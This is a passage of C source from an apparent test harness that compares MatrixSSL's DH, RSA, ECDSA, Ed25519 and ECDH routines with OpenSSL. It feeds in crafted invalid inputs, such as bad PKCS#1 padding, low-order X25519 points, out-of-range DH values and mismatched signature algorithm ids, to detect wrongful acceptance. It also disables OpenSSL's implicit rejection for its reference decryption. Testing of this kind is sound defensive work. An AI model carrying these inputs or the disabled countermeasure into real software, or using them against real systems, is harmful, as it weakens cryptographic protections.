    if (psPkcs3ParseDhParamBin(NULL, der, (psSize_t) derlen, &params) < 0 || psDhImportPrivKey(NULL, xb, sizeof(xb), &priv) < 0)
    {
        internal_err(r, "dh-setup", "MatrixSSL cannot load DH parameters / private value for %s", r->desc);
        DH_free(dh);
        goto out;
    }
    hy = hdup(yb, (size_t) ylen);
    acc[0] = acc[1] = 0;
    rc[0] = rc[1] = psDhImportPubKey(NULL, hy, (psSize_t) ylen, &pub);
    if (rc[0] >= 0)
    {
        outlen[0] = outlen[1] = sizeof(out[0]);
        rc[0] = psDhGenSharedSecret(NULL, &priv, &pub, pb, (psSize_t) plen, out[0], &outlen[0], NULL);
        rc[1] = psDhGenSharedSecretParams(NULL, &priv, &pub, &params, out[1], &outlen[1], NULL);
        acc[0] = rc[0] >= 0;
        acc[1] = rc[1] >= 0;
        psDhClearKey(&pub);
    }
    free(hy);
    psDhClearKey(&priv);
    psPkcs3ClearDhParams(&params);
    DUMPF("case %s\n", r->desc);
    dumphex("p", pb, (size_t) plen);
    dumphex("peer y", yb, (size_t) ylen);
    dumphex("own private x", xb, sizeof(xb));
    DUMPF("  rule 2 <= y <= p-2: %s\n", must_accept ? "valid" : "must be refused");
    for (j = 0; j < 2; j++)
    {
        const char *an = j ? "psDhGenSharedSecretParams" : "psDhGenSharedSecret";
        DUMPF("  MatrixSSL %-28s rc=%d -> %s\n", an, rc[j], acc[j] ? "SECRET PRODUCED" : "refused");
        if (acc[j]) dumphex("secret", out[j], outlen[j]);
        if (acc[j] && must_reject)
        {
            snprintf(key, sizeof(key), "dh|%d|%s|%s|accepted-invalid-public-value", c->k, dh_named[c->i], an);
            violate(r, key, "%s produced a shared secret from peer public value %s which lies outside [2, p-2]", an, dh_named[c->i]);
        }
        else if (!acc[j] && must_accept)
        {
            snprintf(key, sizeof(key), "dh|%d|%s|%s|rejected-valid-public-value", c->k, dh_named[c->i], an);
            violate(r, key, "%s refused (rc=%d) the valid peer public value %s", an, rc[j], dh_named[c->i]);
        }
        else if (acc[j] && (outlen[j] != reflen || memcmp(out[j], ref, (size_t) reflen) != 0))
        {
            snprintf(key, sizeof(key), "dh|%d|%s|%s|wrong-shared-secret", c->k, dh_named[c->i], an);
            violate(r, key, "%s secret (%d bytes) differs from y^x mod p computed with OpenSSL BN (%d bytes, leading zeros stripped)", an, (int) outlen[j], reflen);
        }
    }
    if (must_accept) dumphex("reference y^x mod p", ref, (size_t) reflen);
    snprintf(r->outcome, sizeof(r->outcome), "dh/%s", acc[0] && acc[1] ? "secret" : !acc[0] && !acc[1] ? "refused" : "mixed");
    r->nontrivial = 1;
    r->transitions = 2;
    r->trace_hash = fnv1a(acc, sizeof(acc), fnv1a(md, strlen(md), FNV0));
    DH_free(dh);
out:
    BN_free(y); BN_free(x); BN_free(z); BN_free(t); BN_CTX_free(bn);
    return 0;
na:
    BN_free(y); BN_free(x); BN_free(z); BN_free(t); BN_CTX_free(bn);
    return NA;
#endif
}

/* --------------------------------------------------------------- positive */
static int ref_rsa15_sign(rsakey_t *K, int h, const unsigned char *dig, unsigned char *sig)
{
    EVP_PKEY_CTX *c = EVP_PKEY_CTX_new(K->pkey, NULL);
    size_t sl = (size_t) K->k;
    int ok = c && EVP_PKEY_sign_init(c) > 0 && EVP_PKEY_CTX_set_rsa_padding(c, RSA_PKCS1_PADDING) > 0 &&
        (h == H_RAW36 || EVP_PKEY_CTX_set_signature_md(c, HI[h].md()) > 0) && EVP_PKEY_sign(c, sig, &sl, dig, (size_t) HI[h].len) > 0 &&
        sl == (size_t) K->k;
    EVP_PKEY_CTX_free(c);
    ERR_clear_error();
    return ok ? 0 : -1;
}

static int ref_rsa_decrypt(rsakey_t *K, const unsigned char *ct, unsigned char *out, int *outlen)
{
    EVP_PKEY_CTX *c = EVP_PKEY_CTX_new(K->pkey, NULL);
    size_t ol = 600;
    int ok = c && EVP_PKEY_decrypt_init(c) > 0 && EVP_PKEY_CTX_set_rsa_padding(c, RSA_PKCS1_PADDING) > 0;
    if (ok)
    {
        /* OpenSSL >= 3.2 answers bad padding with a pseudo-random message: switch that off, we want the error */
        EVP_PKEY_CTX_ctrl_str(c, "rsa_pkcs1_implicit_rejection", "0");
        ERR_clear_error();
        ok = EVP_PKEY_decrypt(c, out, &ol, ct, (size_t) K->k) > 0;
    }
    *outlen = (int) ol;
    EVP_PKEY_CTX_free(c);
    ERR_clear_error();
    return ok ? 0 : -1;
}

static const int rsa_lens_n = 12;
static int rsa_len_at(int k, int idx)
{
    int L[12] = { 0, 1, 2, 47, 48, k - 12, k - 11, k - 10, k - 3, k, k - 2, k - 1 };
    return L[idx];
}

enum { C_PS7 = 100, C_BT01, C_BT00, C_NO_SEP, C_FIRST01, C_ZERO_IN_PS, C_WRONG_EXPECTED_LEN, C_CT_PLUS_N, C_CT_SHORT, C_CT_LEADZERO, C_PS8, C_END };
static const char *rsadec_named[] = { "ps-7-bytes", "block-type-01", "block-type-00", "no-separator", "first-byte-01", "zero-inside-first-8-ps-bytes",
                                      "caller-expects-other-length", "ciphertext-plus-n", "ciphertext-short", "ciphertext-leading-zero", "ps-8-bytes" };

static int x25519_case(long i, unsigned char *scalar, unsigned char *u, char *human, size_t hn)
{
    static const char *lo[7] = {
        "0000000000000000000000000000000000000000000000000000000000000000", "0100000000000000000000000000000000000000000000000000000000000000",
        "e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800", "5f9c95bca3508c24b1d0b1559c83ef5b04445cc4581c8e86d8224eddd09f1157",
        "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", "edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
        "eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f" };
    if (i == 0)
    {
        unhex(scalar, "a546e36bf0527c9d3b16154b82465edd62144c0ac1fc5a18506a2244ba449ac4", 32);
        unhex(u, "e6db6867583030db3594c1a424b15f7c726624ec26b3353b10a903a6d0ab1c4c", 32);
        snprintf(human, hn, "RFC 7748 5.2 vector 1");
    }
    else if (i == 1)
    {
        unhex(scalar, "4b66e9d4d1b4673c5ad22691957d6af5c11b6421e0ea01d42ca4169e7918ba0d", 32);
        unhex(u, "e5210f12786811d3f4b7959d0538ae2c31dbe7106fc03c3efc4cd549c715a493", 32);
        snprintf(human, hn, "RFC 7748 5.2 vector 2");
    }
    else if (i >= 2 && i < 10)
    {
        /* deterministic key pairs: u = public key of a second scalar, computed by OpenSSL */
        unsigned char s2[32];
        EVP_PKEY *pk;
        size_t l = 32;
        fill_bytes(scalar, 32, "x25519-a", i);
        fill_bytes(s2, 32, "x25519-b", i);
        pk = EVP_PKEY_new_raw_private_key(EVP_PKEY_X25519, NULL, s2, 32);
        if (!pk) return -1;
        EVP_PKEY_get_raw_public_key(pk, u, &l);
        EVP_PKEY_free(pk);
        snprintf(human, hn, "deterministic key pair #%ld", i);
    }
    else if (i >= 10 && i < 17)
    {
        fill_bytes(scalar, 32, "x25519-a", 77);
        unhex(u, lo[i - 10], 32);
        snprintf(human, hn, "low-order peer value #%ld", i - 10);
    }
    else if (i >= 17 && i < 24)
    {
        fill_bytes(scalar, 32, "x25519-a", 78);
        unhex(u, lo[i - 17], 32);
        u[31] |= 0x80;
        snprintf(human, hn, "low-order peer value #%ld with bit 255 set", i - 17);
    }
    else if (i >= 24 && i < 28)
    {
        /* non-canonical u: p+3, p+9 (fits below 2^255), 9 with bit 255 set, 2^255-1 */
        static const char *nc[4] = { "f0ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", "f6ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
                                     "0900000000000000000000000000000000000000000000000000000000000080", "ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f" };
        fill_bytes(scalar, 32, "x25519-a", 79);
        unhex(u, nc[i - 24], 32);
        snprintf(human, hn, "non-canonical peer value #%ld", i - 24);
    }
    else
    {
        return NA;
    }
    return 0;
}

static int run_pos(const case_t *c, mx_result_t *r)
{
    char md[96], key[160], human[160] = "";
    int verdict = 0; /* 1 ok, 0 fail recorded through violate() */
    const char *cls = "ok";
    case_mdesc(c, md, sizeof(md));
    env_reset((uint64_t) (g_seed * 1000003 + c->i * 7 + c->k));

    switch (c->v)
    {
    case V_RSASIGN:
    {
        rsakey_t *K = rsa_get(c->k);
        unsigned char msg[128], dig[64], ref[512], mine[512], *out = NULL;
        psSize_t outlen = 0;
        int h = c->h, ml, rc;
        if (!K || h < 0 || h >= H_N || !HI[h].enabled || c->i < 0 || c->i > 2) return NA;
        ml = std_msg(msg, "sign", c->k, h, (int) c->i);
        ref_hash(h, msg, (size_t) ml, dig);
        snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d PKCS#1v1.5 %s sign message #%ld with MatrixSSL, compare with OpenSSL)", md, c->k, hash_name[h], c->i);
        if (ref_rsa15_sign(K, h, dig, ref) < 0) { internal_err(r, "ref-sign", "OpenSSL cannot sign"); return 0; }
        if (h == H_SHA1)
        {
            rc = privRsaEncryptSignedElement(NULL, &K->mx.key.rsa, dig, 20, mine, (psSize_t) K->k, NULL);
            outlen = (psSize_t) K->k;
        }
        else
        {
            rc = psSignHash(NULL, &K->mx, HI[h].rsa_oid, dig, (psSize_t) HI[h].len, &out, &outlen, NULL);
            if (rc >= 0 && out) { memcpy(mine, out, outlen <= 512 ? outlen : 512); psFree(out, NULL); }
        }
        DUMPF("case %s\n", r->desc);
        dumphex("digest", dig, (size_t) HI[h].len);
        dumphex("OpenSSL signature", ref, (size_t) K->k);
        DUMPF("  MatrixSSL sign rc=%d outlen=%d\n", rc, (int) outlen);
        if (rc == PS_UNSUPPORTED_FAIL && h == H_SHA512)
        {
            cls = "unsupported"; /* psSignHash has no SHA-512 DigestInfo: nothing is produced, nothing can be wrong */
            break;
        }
        if (rc >= 0) dumphex("MatrixSSL signature", mine, outlen);
        if (rc < 0 || outlen != K->k || memcmp(mine, ref, (size_t) K->k) != 0)
        {
            snprintf(key, sizeof(key), "sign|rsa-pkcs1|%d|%s|%s", c->k, hash_name[h], rc < 0 ? "sign-failed" : "signature-differs");
            violate(r, key, "MatrixSSL RSA-%d PKCS#1 v1.5 %s signature (rc=%d, %d bytes) is not the deterministic signature OpenSSL computes", c->k, hash_name[h], rc, (int) outlen);
        }
        verdict = 1;
        break;
    }
    case V_ALGMIX:
    {
        /* a genuine ECDSA signature over a digest e, verified with a signature algorithm id that belongs to ANOTHER key type:
           i = which id; the message handed over is e followed by 32 more bytes.  psVerifySig dispatches on the key type
           and skips hashing for ids it believes to be "pure" (Ed25519): a verifier that then feeds the front of the raw
           message to ECDSA accepts it.  An algorithm id that does not fit the key never verifies. */
        static const int32 ids[] = { OID_ED25519_KEY_ALG, OID_SHA256_RSA_SIG, OID_RSASSA_PSS };
        eckey_t *E = ec_get(c->k);
        unsigned char msg[128], dig[64], sig[160], *hm, *hs;
        BIGNUM *rr = BN_new(), *ss = BN_new();
        psBool_t res = PS_FALSE;
        int ml, sl, rc;
        if (!E || c->i < 0 || c->i > 2) { BN_free(rr); BN_free(ss); return NA; }
        ml = std_msg(msg, "algmix", E->bits, H_SHA256, 0);
        ref_hash(H_SHA256, msg, (size_t) ml, dig);
        if (!ec_valid_sig(E, dig, 32, 0, rr, ss)) { BN_free(rr); BN_free(ss); internal_err(r, "ecdsa-sign", "cannot sign"); return 0; }
        sl = der_ecdsa_strict(rr, ss, sig);
        BN_free(rr); BN_free(ss);
        memset(msg, 0x33, sizeof(msg));
        memcpy(msg, dig, 32);            /* E->size <= 66: for the larger curves the cut is longer than e; the id must fail anyway */
        snprintf(r->desc, sizeof(r->desc), "%s (P-%d key, genuine ECDSA-SHA256 signature, psVerifySig with algorithm id %d and the message digest||filler)", md, E->bits, (int) ids[c->i]);
        hm = hdup(msg, 64); hs = hdup(sig, (size_t) sl);
        rc = psVerifySig(NULL, hm, 64, hs, (psSize_t) sl, &E->mx, ids[c->i], &res, NULL);
        free(hm); free(hs);
        if (rc == PS_SUCCESS && res == PS_TRUE)
        {
            snprintf(key, sizeof(key), "algorithm-id-of-another-key-type|P-%d|id=%d|accepted", E->bits, (int) ids[c->i]);
            violate(r, key, "psVerifySig ACCEPTED a signature under algorithm id %d with a P-%d ECDSA key (rc %d)", (int) ids[c->i], E->bits, rc);
        }
        verdict = 1;
        break;
    }
    case V_RSALONG:
    {
        /* psVerifySig with an RSA key and a reference message LONGER than any digest (what the X.509 validator passes when a
           certificate's signatureAlgorithm says Ed25519 while its issuer's key is RSA): the signature is a well-formed
           PKCS #1 type-1 block carrying exactly that message.  No memory may be touched outside the buffers, and a raw
           message is not a PKCS #1 v1.5 signature of anything: never accepted. */
        static const int lens[] = { 65, 100, 117, 200, 245, 501 };
        static const int32 oids[] = { OID_ED25519_KEY_ALG, OID_SHA256_RSA_SIG, OID_SHA512_RSA_SIG };
        rsakey_t *K = rsa_get(c->k);
        unsigned char msg[512], em[512], sig[512], *hm, *hs;
        psVerifyOptions_t o;
        psBool_t res = PS_FALSE;
        int li = (int) (c->i / 3), oi = (int) (c->i % 3), L, k, rc, j;
        if (!K || c->i < 0 || li >= (int) (sizeof(lens) / sizeof(lens[0]))) return NA;
        L = lens[li]; k = K->k;
        if (L > k - 11) return NA;
        fill_bytes(msg, (size_t) L, "rsa-long-message", c->k);
        em[0] = 0; em[1] = 1;
        for (j = 2; j < k - L - 1; j++) em[j] = 0xff;
        em[k - L - 1] = 0;
        memcpy(em + k - L, msg, (size_t) L);
        if (rsa_priv_op(K, em, k, sig, NULL) < 0) { internal_err(r, "priv-op", "cannot sign"); return 0; }
        snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d: psVerifySig of a %d-byte reference message against a type-1 block carrying it, algorithm id %d)", md, c->k, L, (int) oids[oi]);
        hm = hdup(msg, (size_t) L); hs = hdup(sig, (size_t) k);
        memset(&o, 0, sizeof(o));
        rc = psVerifySig(NULL, hm, (psSizeL_t) L, hs, (psSize_t) k, &K->mx, oids[oi], &res, &o);
        free(hm); free(hs);
        if (rc == PS_SUCCESS && res == PS_TRUE)
        {
            snprintf(key, sizeof(key), "rsa-long-reference-message|%d|len=%d|accepted", c->k, L);
            violate(r, key, "psVerifySig ACCEPTED a %d-byte raw message as an RSA-%d PKCS#1 v1.5 signature (rc %d)", L, c->k, rc);
        }
        verdict = 1;
        break;
    }
    case V_PSSSIGN:
    {
#ifdef USE_PKCS1_PSS
        rsakey_t *K = rsa_get(c->k);
        unsigned char msg[128], dig[64], salt[600], em[512], refsig[512], *out = NULL;
        psSize_t outlen = 0;
        psSignOpts_t so;
        int h = c->h, ml, rc, sl, ok;
        if (!K || h < 0 || h >= H_RAW36 || !HI[h].enabled || c->i < 0 || c->i > 3) return NA;
        sl = c->i == 2 ? 0 : c->i == 3 ? pss_max_salt(K, h) : pss_default_salt(K, h);
        ml = std_msg(msg, "psssign", c->k, h, 0);
        ref_hash(h, msg, (size_t) ml, dig);
        fill_bytes(salt, sizeof(salt), "pss-sign-salt", c->k);
        memset(&so, 0, sizeof(so));
        so.rsaPssHashAlg = HI[h].pss_id;
        so.rsaPssSalt = c->i == 0 ? NULL : salt;
        so.rsaPssSaltLen = (psSize_t) sl;
        snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d PSS %s sign with MatrixSSL, sLen %d %s salt, verify with OpenSSL)", md, c->k, hash_name[h], sl, c->i == 0 ? "random" : "fixed");
        rc = psRsaPssSignHash(NULL, &K->mx, OID_RSASSA_PSS, dig, (psSizeL_t) HI[h].len, &out, &outlen, &so);
        DUMPF("case %s\n  MatrixSSL psRsaPssSignHash rc=%d outlen=%d\n", r->desc, rc, (int) outlen);
        if (rc < 0 || !out || outlen != K->k)
        {
            snprintf(key, sizeof(key), "sign|rsa-pss|%d|%s|sign-failed", c->k, hash_name[h]);
            violate(r, key, "psRsaPssSignHash failed (rc=%d, outlen=%d) for sLen %d", rc, (int) outlen, sl);
            if (out) psFree(out, NULL);
            break;
        }
        dumphex("MatrixSSL signature", out, outlen);
        ok = ref_pss_verify(K, h, h, sl, dig, out, (int) outlen);
        if (!ok)
        {
            snprintf(key, sizeof(key), "sign|rsa-pss|%d|%s|openssl-rejects", c->k, hash_name[h]);
            violate(r, key, "OpenSSL rejects the RSA-%d PSS %s signature made by psRsaPssSignHash (sLen %d)", c->k, hash_name[h], sl);
        }
        else if (c->i != 0 && pss_encode(em, K->k, h, h, dig, salt, sl, NULL) == 0 && rsa_priv_op(K, em, K->k, refsig, NULL) == 0 &&
                 memcmp(refsig, out, (size_t) K->k) != 0)
        {
            snprintf(key, sizeof(key), "sign|rsa-pss|%d|%s|signature-differs", c->k, hash_name[h]);
            violate(r, key, "with a fixed salt the RSA-%d PSS %s signature differs from EMSA-PSS-ENCODE + RSASP1 computed by the harness", c->k, hash_name[h]);
        }
        psFree(out, NULL);
        verdict = 1;
        break;
#else
        return NA;
#endif
    }
    case V_RSAENC:
    {
        rsakey_t *K = rsa_get(c->k);
        unsigned char pt[520], ct[520], back[600], *hp;
        int len, rc, bl = 0, should;
        if (!K || c->i < 0 || c->i >= rsa_lens_n) return NA;
        len = rsa_len_at(K->k, (int) c->i);
        should = len <= K->k - 11;
        fill_bytes(pt, sizeof(pt), "rsaenc-pt", c->i);
        snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d psRsaEncryptPub of %d bytes (max %d), decrypt with OpenSSL)", md, c->k, len, K->k - 11);
        hp = hdup(pt, (size_t) len);
        rc = psRsaEncryptPub(NULL, &K->mx.key.rsa, hp, (psSize_t) len, ct, (psSize_t) K->k, NULL);
        free(hp);
        DUMPF("case %s\n  MatrixSSL psRsaEncryptPub rc=%d\n", r->desc, rc);
        if (rc >= 0) dumphex("ciphertext", ct, (size_t) K->k);
        if (rc >= 0 && !should)
        {
            snprintf(key, sizeof(key), "rsa-encrypt|accepted-overlong-message");
            violate(r, key, "psRsaEncryptPub encrypted %d bytes with a %d byte modulus (RFC 8017 7.2.1: mLen <= k-11)", len, K->k);
        }
        else if (rc < 0 && should)
        {
            snprintf(key, sizeof(key), "rsa-encrypt|rejected-valid-length");
            violate(r, key, "psRsaEncryptPub refused (rc=%d) a %d byte message with a %d byte modulus", rc, len, K->k);
        }
        else if (rc >= 0 && (ref_rsa_decrypt(K, ct, back, &bl) < 0 || bl != len || memcmp(back, pt, (size_t) len) != 0))
        {
            snprintf(key, sizeof(key), "rsa-encrypt|openssl-cannot-decrypt");
            violate(r, key, "OpenSSL does not recover the %d byte message from the psRsaEncryptPub ciphertext (got %d bytes)", len, bl);
        }
        cls = rc >= 0 ? "encrypted" : "refused";
        verdict = 1;
        break;
    }
    case V_RSADEC:
    {
        rsakey_t *K = rsa_get(c->k);
        unsigned char em[520], ct[520], pt[520], out[520], back[600], *hc;
        BIGNUM *m, *cc;
        int k, len, explen, rc, should = 1, ctlen, ps, j, bl = 0, neg = c->i >= 100;
        const char *nm = "valid";
        if (!K || c->i < 0 || (c->i >= rsa_lens_n && c->i < 100) || c->i >= C_END) return NA;
        k = K->k;
        len = neg ? 48 : rsa_len_at(k, (int) c->i);
        if (!neg && len > k - 11) return NA;
        if (c->i == C_PS7) len = k - 10;
        if (c->i == C_PS8) len = k - 11;
        fill_bytes(pt, sizeof(pt), "rsadec-pt", c->i);
        ps = k - 3 - len;
        em[0] = 0; em[1] = 2;
        nz_garbage(em + 2, ps, 1000 + c->i);
        em[2 + ps] = 0;
        memcpy(em + 3 + ps, pt, (size_t) len);
        explen = len;
        ctlen = k;
        if (neg)
        {
            nm = rsadec_named[c->i - 100];
            should = 0;
            switch (c->i)
            {
            case C_PS7: break;
            case C_PS8: should = 1; break;
            case C_BT01: em[1] = 1; memset(em + 2, 0xff, (size_t) ps); break;
            case C_BT00: em[1] = 0; break;
            case C_NO_SEP: em[2 + ps] = 0x77; break;
            case C_FIRST01: em[0] = 1; break;
            case C_ZERO_IN_PS: em[2 + 3] = 0; break;
            case C_WRONG_EXPECTED_LEN: explen = len - 1; break;
            default: break;
            }
        }
        BN_CTX_start(K->bn);
        m = BN_CTX_get(K->bn); cc = BN_CTX_get(K->bn);
        BN_bin2bn(em, k, m);
        BN_mod_exp(cc, m, K->e, K->n, K->bn);
        if (c->i == C_CT_PLUS_N)
        {
            BN_add(cc, cc, K->n);
            ctlen = BN_num_bytes(cc) > k ? k + 1 : k;
        }
        BN_bn2binpad(cc, ct, ctlen);
        BN_CTX_end(K->bn);
        if (c->i == C_CT_SHORT) { ctlen = k - 1; }
        if (c->i == C_CT_LEADZERO) { memmove(ct + 1, ct, (size_t) k); ct[0] = 0; ctlen = k + 1; }
        snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d psRsaDecryptPriv of a reference-built ciphertext: %s, message %d bytes, PS %d bytes, caller expects %d)", md, c->k, nm, len, ps, explen);
        if (should && ctlen == k && (ref_rsa_decrypt(K, ct, back, &bl) < 0 || bl != len || memcmp(back, pt, (size_t) len) != 0))
        {
            internal_err(r, "ref-decrypt", "OpenSSL cannot decrypt the reference ciphertext of %s", r->desc);
            return 0;
        }
        if (!should && ctlen == k && c->i != C_WRONG_EXPECTED_LEN && ref_rsa_decrypt(K, ct, back, &bl) == 0)
        {
            internal_err(r, "ref-decrypt-accepts", "OpenSSL decrypts a ciphertext the harness considers invalid: %s", r->desc);
            return 0;
        }
        hc = hdup(ct, (size_t) ctlen);
        memset(out, 0, sizeof(out));
        rc = psRsaDecryptPriv(NULL, &K->mx.key.rsa, hc, (psSize_t) ctlen, out, (psSize_t) explen, NULL);
        free(hc);
        DUMPF("case %s\n", r->desc);
        dumphex("EM before encryption", em, (size_t) k);
        dumphex("ciphertext", ct, (size_t) ctlen);
        DUMPF("  expected: %s;  MatrixSSL psRsaDecryptPriv rc=%d\n", should ? "decrypts" : "decryption error", rc);
        if (rc >= 0) dumphex("MatrixSSL plaintext", out, (size_t) explen);
        if (rc >= 0 && !should)
        {
            snprintf(key, sizeof(key), "rsa-decrypt|%s|accepted-invalid-padding", nm);
            violate(r, key, "psRsaDecryptPriv returned success for an invalid RSAES-PKCS1-v1_5 block (%s: message %d bytes, PS %d bytes, modulus %d; RFC 8017 7.2.2 step 3; OpenSSL reports a decryption error)",
                nm, len, ps, k);
        }
        else if (should && (rc < 0 || memcmp(out, pt, (size_t) len) != 0))
        {
            snprintf(key, sizeof(key), "rsa-decrypt|%s|%s", nm, rc < 0 ? "rejected-valid" : "wrong-plaintext");
            violate(r, key, "psRsaDecryptPriv rc=%d for a valid ciphertext of a %d byte message", rc, len);
        }
        (void) j;
        cls = rc >= 0 ? "decrypted" : "refused";
        verdict = 1;
        break;
    }
    case V_ECSIGN:
    {
        eckey_t *E = ec_get(c->k);
        unsigned char msg[128], dig[64], sig[200], re[200], *q;
        const unsigned char *cp;
        psSize_t siglen = sizeof(sig);
        int h = c->h, ml, rc, incl = (int) (c->i & 1), off, rl;
        ECDSA_SIG *sg;
        if (!E || h < 0 || h >= H_RAW36 || !HI[h].enabled || c->i < 0 || c->i > 5) return NA;
        ml = std_msg(msg, "ecsign", c->k, h, (int) (c->i / 2));
        ref_hash(h, msg, (size_t) ml, dig);
        snprintf(r->desc, sizeof(r->desc), "%s (ECDSA P-%d %s sign message #%ld with psEccDsaSign includeSize=%d, verify with OpenSSL)", md, c->k, hash_name[h], c->i / 2, incl);
        rc = psEccDsaSign(NULL, &E->mx.key.ecc, dig, (psSize_t) HI[h].len, sig, &siglen, (uint8_t) incl, NULL);
        DUMPF("case %s\n  MatrixSSL psEccDsaSign rc=%d siglen=%d\n", r->desc, rc, (int) siglen);
        if (rc < 0)
        {
            snprintf(key, sizeof(key), "sign|ecdsa|p%d|%s|sign-failed", c->k, hash_name[h]);
            violate(r, key, "psEccDsaSign failed rc=%d", rc);
            break;
        }
        dumphex("MatrixSSL signature", sig, siglen);
        off = incl ? 2 : 0;
        if (incl && (((sig[0] << 8) | sig[1]) != siglen - 2))
        {
            snprintf(key, sizeof(key), "sign|ecdsa|p%d|%s|bad-size-prefix", c->k, hash_name[h]);
            violate(r, key, "psEccDsaSign(includeSize=1) length prefix %d does not match %d", (sig[0] << 8) | sig[1], (int) siglen - 2);
            break;
        }
        cp = sig + off;
        sg = d2i_ECDSA_SIG(NULL, &cp, (long) siglen - off);
        q = re;
        rl = sg ? i2d_ECDSA_SIG(sg, &q) : -1;
        if (!sg || cp != sig + siglen || rl != (int) siglen - off || memcmp(re, sig + off, (size_t) rl) != 0)
        {
            snprintf(key, sizeof(key), "sign|ecdsa|p%d|%s|not-strict-der", c->k, hash_name[h]);
            violate(r, key, "psEccDsaSign output is not a strict DER Ecdsa-Sig-Value (OpenSSL d2i/i2d round trip differs)");
        }
        else if (ECDSA_do_verify(dig, HI[h].len, sg, E->ec) != 1)
        {
            snprintf(key, sizeof(key), "sign|ecdsa|p%d|%s|openssl-rejects", c->k, hash_name[h]);
            violate(r, key, "OpenSSL rejects the ECDSA P-%d %s signature made by psEccDsaSign", c->k, hash_name[h]);
        }
        if (sg) ECDSA_SIG_free(sg);
        ERR_clear_error();
        verdict = 1;
        break;
    }
    case V_EDSIGN:
    {
#ifdef USE_ED25519
        static edtest_t t;
        unsigned char sig[64], *out = NULL;
        psSizeL_t sl = 0;
        psSize_t ol = 0;
        psPubKey_t pk;
        int rc, rc2;
        if (c->i != 0 || ed_vector(c->k, &t) != 0) return NA;
        snprintf(r->desc, sizeof(r->desc), "%s (Ed25519 vector %d: sign with MatrixSSL, byte-compare with the RFC 8032 / OpenSSL signature)", md, c->k);
        rc = psEd25519Sign(t.msg, (psSizeL_t) t.msglen, sig, &sl, t.sk, t.pk);
        memset(&pk, 0, sizeof(pk));
        pk.type = PS_ED25519;
        memcpy(pk.key.ed25519.priv, t.sk, 32);
        memcpy(pk.key.ed25519.pub, t.pk, 32);
        pk.key.ed25519.havePriv = pk.key.ed25519.havePub = PS_TRUE;
        rc2 = psSign(NULL, &pk, OID_ED25519_KEY_ALG, t.msg, (psSizeL_t) t.msglen, &out, &ol, NULL);
        DUMPF("case %s\n  psEd25519Sign rc=%d len=%d; psSign rc=%d len=%d\n", r->desc, rc, (int) sl, rc2, (int) ol);
        dumphex("expected signature", t.sig, 64);
        if (rc >= 0) dumphex("psEd25519Sign", sig, 64);
        if (rc < 0 || sl != 64 || memcmp(sig, t.sig, 64) != 0)
        {
            snprintf(key, sizeof(key), "sign|ed25519|psEd25519Sign|%s", rc < 0 ? "sign-failed" : "signature-differs");
            violate(r, key, "psEd25519Sign (rc=%d) does not produce the RFC 8032 signature of vector %d", rc, c->k);
        }
        else if (rc2 < 0 || !out || ol != 64 || memcmp(out, t.sig, 64) != 0)
        {
            snprintf(key, sizeof(key), "sign|ed25519|psSign|%s", rc2 < 0 ? "sign-failed" : "signature-differs");
            violate(r, key, "psSign(OID_ED25519_KEY_ALG) (rc=%d) does not produce the RFC 8032 signature of vector %d", rc2, c->k);
        }
        if (out) psFree(out, NULL);
        verdict = 1;
        break;
#else
        return NA;
#endif
    }
    case V_ECDH:
    {
        eckey_t *E = ec_get(c->k);
        BIGNUM *a, *b, *sx;
        EC_POINT *A, *B, *S;
        EC_KEY *ka;
        unsigned char *der = NULL, bpt[140], ref[80], out[160];
        int derlen, rc, irc;
        size_t bl;
        psEccKey_t priv, pub;
        psSize_t outlen = sizeof(out);
        if (!E || c->i < 0 || c->i > 3) return NA;
        a = BN_new(); b = BN_new(); sx = BN_new();
        A = EC_POINT_new(E->grp); B = EC_POINT_new(E->grp); S = EC_POINT_new(E->grp);
        ec_scalar(E, a, "ecdh-a", c->i);
        ec_scalar(E, b, "ecdh-b", c->i);
        if (c->i == 3) { BN_copy(a, E->n); BN_sub_word(a, 1); } /* boundary scalar n-1 */
        if (c->i == 2) { BN_one(b); }                             /* peer point = G */
        EC_POINT_mul(E->grp, A, a, NULL, NULL, E->bn);
        EC_POINT_mul(E->grp, B, b, NULL, NULL, E->bn);
        EC_POINT_mul(E->grp, S, NULL, B, a, E->bn);
        EC_POINT_get_affine_coordinates(E->grp, S, sx, NULL, E->bn);
        BN_bn2binpad(sx, ref, E->size);
        ka = EC_KEY_new();
        EC_KEY_set_group(ka, E->grp);
        EC_KEY_set_private_key(ka, a);
        EC_KEY_set_public_key(ka, A);
        derlen = i2d_ECPrivateKey(ka, &der);
        bl = EC_POINT_point2oct(E->grp, B, POINT_CONVERSION_UNCOMPRESSED, bpt, sizeof(bpt), E->bn);
        snprintf(r->desc, sizeof(r->desc), "%s (ECDH P-%d key pair #%ld: psEccGenSharedSecret vs OpenSSL EC_POINT_mul)", md, c->k, c->i);
        memset(&priv, 0, sizeof(priv));
        memset(&pub, 0, sizeof(pub));
        rc = derlen > 0 ? psEccParsePrivKey(NULL, der, (psSize_t) derlen, &priv, NULL) : -1;
        irc = psEccX963ImportKey(NULL, bpt, (psSize_t) bl, &pub, E->curve);
        DUMPF("case %s\n", r->desc);
        if (der) dumphex("own private key (SEC1 DER)", der, (size_t) derlen);
        dumphex("peer point", bpt, bl);
        dumphex("reference secret", ref, (size_t) E->size);
        if (rc < 0 || irc < 0)
        {
            snprintf(key, sizeof(key), "ecdh|p%d|positive|%s", c->k, rc < 0 ? "private-key-parse-failed" : "rejected-valid-point");
            violate(r, key, "MatrixSSL cannot load a valid P-%d key pair (parse rc=%d, import rc=%d)", c->k, rc, irc);
        }
        else
        {
            int src = psEccGenSharedSecret(NULL, &priv, &pub, out, &outlen, NULL);
            DUMPF("  psEccGenSharedSecret rc=%d outlen=%d\n", src, (int) outlen);
            if (src >= 0) dumphex("MatrixSSL secret", out, outlen);
            if (src < 0 || outlen != E->size || memcmp(out, ref, (size_t) E->size) != 0)
            {
